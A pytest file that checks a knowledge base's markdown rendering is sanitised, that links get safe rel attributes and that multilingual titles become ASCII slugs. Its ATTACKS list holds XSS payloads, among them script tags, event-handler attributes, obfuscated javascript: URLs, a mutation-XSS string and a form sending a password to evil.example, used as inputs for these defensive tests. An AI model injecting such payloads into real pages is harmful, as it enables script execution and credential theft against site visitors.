"""Markdown is rendered and then sanitised: whatever an editor (or an API client) writes, the HTML
that reaches a page has no script, no event handler and no script URL; links cannot reach back to the
opener; ordinary formatting survives."""

from html.parser import HTMLParser

import pytest

from knowledge_base.markdown import plain_text, render_markdown
from knowledge_base.slugs import numbered, slugify

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src="x" onerror="alert(1)">',
    "<svg onload=alert(1)><circle r=1></svg>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<iframe src="https://evil.example"></iframe>',
    '<div style="background:url(javascript:alert(1))" onclick="alert(1)">x</div>',
    "<form action=https://evil.example><input name=password></form>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    "<details open ontoggle=alert(1)>x</details>",
    "<object data=x></object><embed src=x>",
]


class _Elements(HTMLParser):
    """Every (tag, attributes) of a piece of HTML, as a browser's tokenizer sees them."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Elements()
    parser.feed(html)
    return parser.found


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_executable_survives(attack: str) -> None:
    html = render_markdown(f"Before\n\n{attack}\n\nAfter")
    for tag, attributes in elements(html):
        assert tag not in {"script", "style", "iframe", "svg", "math", "form", "input", "object", "embed"}, html
        assert not [name for name in attributes if name.startswith("on") or name == "style"], html
        for name in ("href", "src"):
            url = (attributes.get(name) or "").strip().lower()
            scheme = url.split(":", 1)[0] if ":" in url.split("/", 1)[0] else ""  # "" for relative URLs
            assert scheme in {"", "http", "https", "mailto", "tel"}, html
    assert "<script" not in html.lower() and "Before" in html


def test_links_open_nothing_back_and_are_not_endorsed() -> None:
    html = render_markdown("[Refunds](https://example.com/refunds) and <a href='mailto:help@example.com'>mail</a>")
    assert '<a href="https://example.com/refunds" rel="noopener nofollow">Refunds</a>' in html
    assert '<a href="mailto:help@example.com" rel="noopener nofollow">mail</a>' in html


def test_ordinary_markdown_keeps_its_formatting() -> None:
    html = render_markdown(
        "# Refunds\n\nWithin **14 days**, *no questions*.\n\n- one\n- two\n\n"
        "| Plan | Price |\n|---|---|\n| Pro | $29 |\n\n```python\nx < 1\n```\n\n~~old~~ ![logo](https://example.com/l.png)"
    )
    for fragment in (
        "<h1>Refunds</h1>",
        "<strong>14 days</strong>",
        "<em>no questions</em>",
        "<li>one</li>",
        "<td>$29</td>",
        '<code class="language-python">x &lt; 1',
        "<s>old</s>",
        '<img src="https://example.com/l.png" alt="logo">',
    ):
        assert fragment in html


def test_text_is_escaped_not_interpreted() -> None:
    assert "&lt;3 &amp; more" in render_markdown("I \\<3 & more")


def test_plain_text_drops_markup_and_cuts_at_a_word() -> None:
    text = plain_text("# Title\n\n**Bold** <script>steal()</script> words " + "long " * 40, limit=40)
    assert text.startswith("Title Bold words long")
    assert "steal" not in text and "<" not in text
    assert text.endswith("…") and len(text) <= 41


def test_slugs_are_ascii_words() -> None:
    assert slugify("Как вернуть деньги?", fallback="article") == "kak-vernut-dengi"
    assert slugify("Объём и щука, ёж", fallback="article") == "obem-i-shchuka-ezh"
    assert slugify("How do I get a REFUND?!", fallback="article") == "how-do-i-get-a-refund"
    assert slugify("Crème brûlée", fallback="article") == "creme-brulee"
    assert slugify("???", fallback="article") == "article"
    assert len(slugify("word " * 100, fallback="article")) <= 80
    assert [numbered("refund", n) for n in (1, 2, 3)] == ["refund", "refund-2", "refund-3"]
